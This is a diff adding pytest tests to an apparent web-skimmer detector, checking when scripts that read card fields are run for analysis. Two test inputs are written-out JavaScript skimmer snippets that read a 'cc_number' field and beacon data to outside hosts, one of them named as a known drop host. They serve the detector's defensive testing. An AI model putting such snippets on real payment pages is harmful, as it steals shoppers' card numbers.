@@ -65,3 +65,32 @@ def test_hard_negative_fixtures_are_detonated_when_they_read_card_fields(engine:
     """Payment SDKs read the card: detonation must see them run (and find them clean)."""
     code = Path(FIXTURES / "scripts/benign/card_validator_luhn.js").read_text()
     assert "reads card-like fields" in reasons_for(code, engine)
+
+
+
+
+def test_card_reads_beside_an_unknown_send_are_detonated_although_malicious(
+        engine: Engine) -> None:
+    """Malicious only by co-occurrence (no taint path, an unknown host): running the file
+    settles it, as `merge` then weighs those findings against what it sent."""
+    code = (FIXTURES / "eval/blind/benign/b01_fraud_typing_cadence.js").read_text()
+    target = analyze_source(code, engine=engine)
+    assert target.verdict.value == "malicious" and not any(f.flow for f in target.findings
+                                                            if f.is_blocking)
+    assert reasons_for(code, engine) == [
+        "static analysis found card reads beside a send, with no path between them"]
+
+
+@pytest.mark.parametrize("code", [
+    # a taint path from the card field to the send
+    "document.getElementById('pay').addEventListener('click', function () {"
+    " navigator.sendBeacon('https://collect.vendor-x.example/c',"
+    " document.getElementById('cc_number').value); });",
+    # co-occurrence, but to a documented drop host
+    "var n = document.getElementById('cc_number'); n.addEventListener('blur', function () {"
+    " navigator.sendBeacon('https://baways.com/c', 'x'); });",
+])
+def test_proven_or_known_bad_malicious_files_are_not_detonated(code: str,
+                                                               engine: Engine) -> None:
+    assert analyze_source(code, engine=engine).verdict.value == "malicious"
+    assert reasons_for(code, engine) == []
